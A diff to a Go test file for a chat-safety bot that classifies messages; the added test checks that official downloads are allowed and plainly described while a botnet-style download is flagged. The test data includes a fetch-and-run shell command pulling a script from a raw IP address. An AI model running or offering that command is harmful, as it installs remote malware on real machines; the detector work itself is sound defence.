@@ -1,6 +1,7 @@
 package bot_test
 
 import (
+	"strings"
 	"testing"
 
 	"github.com/immunebot/immune/bot"
@@ -44,4 +45,38 @@ func TestInstallScripts(t *testing.T) {
 		{"cd /tmp; wget http://45.61.12.34/bins.sh; sh bins.sh", true},
 		{"https://45.61.12.34/x.sh", true},
 	})
+}
+
+// TestNotedDownloadsNamedPlainly: a download that is only noted (a
+// project's install script over TLS, a program from an official site) is
+// named without the warning words the flagged kind carries, in both
+// languages: "Looks safe" above "the kind botnets spread" contradicts
+// itself. A script that still warns keeps them.
+func TestNotedDownloadsNamedPlainly(t *testing.T) {
+	t.Parallel()
+	c := bot.NewClassifier(bot.ClassifierConfig{})
+	detail := func(text string) (bot.Level, string, string) {
+		t.Helper()
+		v := judgeText(c, bot.Telegram, text).Verdict
+		for i := range v.Reasons {
+			if r := &v.Reasons[i]; r.Code == bot.CodeDangerousFile {
+				return v.Level, r.DetailIn(bot.English), r.DetailIn(bot.Vietnamese)
+			}
+		}
+		t.Fatalf("%q: no dangerous_file reason in %v", text, v.Reasons)
+		return 0, "", ""
+	}
+	for _, text := range []string{
+		"ollama install script https://ollama.com/install.sh",
+		"get it from https://www.python.org/ftp/python/3.13.0/python-3.13.0-amd64.exe",
+	} {
+		level, en, vi := detail(text)
+		if level != bot.Allow || strings.Contains(en, "botnet") || strings.Contains(vi, "botnet") || strings.Contains(en, "%!") {
+			t.Errorf("%q: %s\n  en: %s\n  vi: %s\nwant allowed and named plainly", text, level, en, vi)
+		}
+	}
+	level, en, vi := detail("cd /tmp; wget http://45.61.12.34/bins.sh; sh bins.sh")
+	if level == bot.Allow || !strings.Contains(en, "botnets spread") || !strings.Contains(vi, "botnet") {
+		t.Errorf("a botnet script: %s\n  en: %s\n  vi: %s\nwant flagged with the botnet words", level, en, vi)
+	}
 }
